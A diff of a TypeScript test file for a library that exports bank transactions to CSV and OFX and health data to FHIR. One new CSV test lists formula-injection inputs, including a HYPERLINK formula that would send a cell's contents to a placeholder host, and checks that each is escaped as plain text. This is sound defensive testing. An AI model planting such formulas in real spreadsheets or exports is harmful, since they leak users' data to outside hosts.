@@ -8,7 +8,7 @@ import Papa from 'papaparse';
 import { SaxesParser } from 'saxes';
 import { describe, expect, it } from 'vitest';
 import { activitiesToICalendar, healthToFhirBundle, transactionsToCsv, transactionsToOfx, type StandardTransaction } from '../../src/bundle/index';
-import { formatMinor } from '../../src/bundle/standard/transactions';
+import { formatMinor, spreadsheetText } from '../../src/bundle/standard/transactions';
 import { parseBankFile } from '../../src/importers/bank/index';
 
 const rows: StandardTransaction[] = [
@@ -43,7 +43,7 @@ describe('CSV', () => {
 
   it('in the Danish dialect opens as a Danish spreadsheet does: BOM, semicolons, decimal commas', () => {
     const csv = transactionsToCsv(rows, { dialect: 'danish' });
-    expect(csv.startsWith('\uFEFFdate;value_date;amount;currency;text;counterparty;balance;pending;id;account\r\n')).toBe(true);
+    expect(csv.startsWith('\uFEFFdate;value_date;amount;currency;text;counterparty;balance;pending;id;account;category\r\n')).toBe(true);
     expect(new TextEncoder().encode(csv).subarray(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
     const parsed = Papa.parse<Record<string, string>>(csv.slice(1).trimEnd(), { header: true, delimiter: ';', newline: '\r\n' });
     expect(parsed.errors).toEqual([]);
@@ -70,6 +70,18 @@ describe('CSV', () => {
     expect(statement.transactions[0]!.text).toBe('Føtex Aarhus C');
   });
 
+  it('keeps a spreadsheet from reading a text cell as a formula, number or date, and carries the category', () => {
+    const texts = ['=HYPERLINK("http://x/?"&A1;"klik")', '+4512345678', '-5', '@SUM(A1)', '\tTAB', '00123', '1-2', '12:30', '50%', 'Føtex', 'Bolig 2', ''];
+    const csv = transactionsToCsv(
+      texts.map((text) => ({ date: '2026-12-01', amountMinor: 1, currency: 'DKK', text, category: '=1+1' })),
+      { dialect: 'danish' },
+    );
+    const parsed = Papa.parse<Record<string, string>>(csv.slice(1).trimEnd(), { header: true, delimiter: ';', newline: '\r\n' });
+    expect(parsed.data.map((r) => r.text)).toEqual([...texts.slice(0, 9).map((t) => `'${t}`), 'Føtex', 'Bolig 2', '']);
+    expect(parsed.data.map((r) => r.category)).toEqual(texts.map(() => "'=1+1"));
+    expect(spreadsheetText('Netto')).toBe('Netto');
+  });
+
   it('refuses rows it cannot write faithfully, naming them', () => {
     expect(() => transactionsToCsv([{ ...rows[0]!, amountMinor: 1.5 }])).toThrow(/transactions\[0\]\.amountMinor/);
     expect(() => transactionsToCsv([rows[0]!, { ...rows[0]!, date: '01-12-2026' }])).toThrow(/transactions\[1\]\.date/);
@@ -78,8 +90,10 @@ describe('CSV', () => {
 });
 
 describe('OFX', () => {
-  it('is well-formed XML with one statement per account and currency, booked rows only', () => {
+  it('is OFX 1.02 with a UTF-8 header and a body of closed elements: one statement per account and currency, booked rows only', () => {
     const ofx = transactionsToOfx(rows, { now: new Date('2026-12-05T10:00:00Z') });
+    const [header, body] = ofx.split('\r\n\r\n') as [string, string];
+    expect(header.split('\r\n')).toEqual(['OFXHEADER:100', 'DATA:OFXSGML', 'VERSION:102', 'SECURITY:NONE', 'ENCODING:UTF-8', 'CHARSET:NONE', 'COMPRESSION:NONE', 'OLDFILEUID:NONE', 'NEWFILEUID:NONE']);
     const text: Record<string, string[]> = {};
     const stack: string[] = [];
     const parser = new SaxesParser();
@@ -89,16 +103,32 @@ describe('OFX', () => {
       const name = stack[stack.length - 1];
       if (name && value.trim()) (text[name] ??= []).push(value);
     });
-    parser.write(ofx).close();
+    parser.write(body).close();
     expect(text.CURDEF).toEqual(['DKK', 'EUR']);
     expect(text.TRNAMT).toEqual(['-123.45', '2500.00', '-5.00']);
     expect(text.TRNTYPE).toEqual(['DEBIT', 'CREDIT', 'DEBIT']);
     expect(text.MEMO).toContain('Café');
     expect(text.FITID).toContain('fit-9');
     expect(new Set(text.FITID).size).toBe(3);
-    expect(text.BALAMT).toEqual(['1000.00']);
+    // The DKK statement's rows carry a balance; the EUR one's do not, so it states 0.00.
+    expect(text.BALAMT).toEqual(['1000.00', '0.00']);
+    expect(text.DTPOSTED).toEqual(['20261201120000', '20261202120000', '20261203120000']);
     expect(text.DTSERVER).toEqual(['20261205100000']);
-    expect(ofx.startsWith('<?xml')).toBe(true);
+    expect(text.NAME).toContain('Aarhus Kommune');
+    expect(text.MEMO).toContain('Løn, "december" linje 2');
+  });
+
+  it('gives a row the same FITID in any file that holds it, whatever else the file holds', () => {
+    const day: StandardTransaction[] = [
+      { date: '2026-12-01', amountMinor: -100, currency: 'DKK', text: 'Kaffe' },
+      { date: '2026-12-01', amountMinor: -100, currency: 'DKK', text: 'Kaffe' },
+      { date: '2026-12-02', amountMinor: -4500, currency: 'DKK', text: 'Netto' },
+    ];
+    const ids = (list: StandardTransaction[]) => [...transactionsToOfx(list, { now: new Date() }).matchAll(/<FITID>([^<]+)</g)].map((m) => m[1]);
+    const all = ids([{ date: '2026-11-30', amountMinor: 1, currency: 'DKK', text: 'x' }, ...day]);
+    expect(new Set(all).size).toBe(4);
+    expect(ids(day)).toEqual(all.slice(1));
+    expect(ids(day.slice(2))).toEqual(all.slice(3));
   });
 
   it('writes no empty NAME or MEMO for a row without text, and is read back by the vault\u2019s own OFX importer', () => {
@@ -161,7 +191,7 @@ describe('FHIR', () => {
     expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection' });
     const [weight, bp, note] = bundle.entry.map((e) => e.resource);
     expect(weight).toMatchObject({ resourceType: 'Observation', status: 'final', valueQuantity: { value: 81.5, unit: 'kg', system: 'http://unitsofmeasure.org', code: 'kg' } });
-    expect(weight!.code).toEqual({ coding: [{ system: 'http://loinc.org', code: '29463-7', display: 'Body weight' }], text: 'Kropsvægt' });
+    expect(weight!.code).toEqual({ coding: [{ system: 'http://loinc.org', code: '29463-7'}], text: 'Kropsvægt' });
     expect((bp!.component as unknown[]).length).toBe(2);
     expect(note).toMatchObject({ valueString: 'ok', code: { text: 'Note' } });
     expect(() => healthToFhirBundle([{ id: 'x y', status: 'final', name: { da: 'a', en: 'a' }, code: {} }], { now: new Date() })).toThrow(/observations\[0\]\.id/);
